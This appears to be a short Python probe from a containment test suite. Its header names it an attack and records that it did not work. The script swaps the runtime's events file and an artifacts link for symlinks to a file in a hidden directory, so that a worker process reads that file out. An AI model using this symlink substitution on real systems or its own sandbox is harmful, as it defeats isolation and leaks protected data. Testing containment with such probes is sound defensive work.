# attack: put a link to the worker's file in place of the channel, so that the worker reads it for us
# result: none
import os

events = os.path.join(os.environ["BLUEPLM_RUNTIME"], "events.jsonl")
target = os.path.join(os.environ["HOSTILE_HIDDEN"], "stolen.jsonl")
for place in (events, os.path.join(os.environ["BLUEPLM_ARTIFACTS"], "link")):
    try:
        if os.path.lexists(place):
            os.unlink(place)
        os.symlink(target, place)
    except OSError as error:
        print(error)
print("contained")
